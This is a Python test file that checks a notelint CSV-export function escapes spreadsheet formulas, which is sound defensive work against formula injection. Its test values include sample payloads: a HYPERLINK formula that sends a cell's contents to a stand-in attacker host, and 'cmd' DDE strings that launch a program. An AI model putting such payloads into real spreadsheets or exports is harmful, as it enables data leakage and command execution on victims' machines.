"""What a note says is no formula in the spreadsheet that its record is opened with."""

import csv
import io
from pathlib import Path

import pytest

from notelint.records.formats.csv_table import cell, escape_formula
from tests.trust.conftest import Run

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1+1",
    "－1+A1",
    "＠SUM(A1)",
    "-",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_a_text(text: str) -> None:
    assert escape_formula(text) == f"'{text}"
    assert cell(text) == f"'{text}"


@pytest.mark.parametrize(
    "text",
    ["", "a=1", "-5", "+82", "-1,234.5", "-3%", "제목 - 신문", "'", " a", "1-2", "(=1)", "#=1"],
)
def test_numbers_and_other_texts_stay(text: str) -> None:
    assert escape_formula(text) == text


def test_values_that_are_no_texts_stay() -> None:
    assert [cell(one) for one in (-5, -0.5, True, None, ["=1"])] == [
        "-5",
        "-0.5",
        "true",
        "",
        '["=1"]',
    ]


def test_cells_and_header_of_an_extract(here: Path, run: Run) -> None:
    schema = """\
notelint: 1
name: s
front_matter: {fields: {"=cmd": string, n: integer}}
parts:
  - {id: title, heading: {level: 1}}
"""
    note = "---\n=cmd: '@SUM(A1)'\nn: -5\n---\n\n# =1+1\n"
    (here / "s.yaml").write_text(schema, encoding="utf-8")
    (here / "n.md").write_text(note, encoding="utf-8")
    done = run("extract", "--schema", "s.yaml", "--format", "csv", "n.md")
    assert done.returncode == 0, done.stderr
    rows = list(csv.reader(io.StringIO(done.stdout)))
    assert not [one for row in rows for one in row if one[:1] in ("=", "@")]
    assert "'=1+1" in rows[1]
    assert "'@SUM(A1)" in rows[1]
    assert "-5" in rows[1]
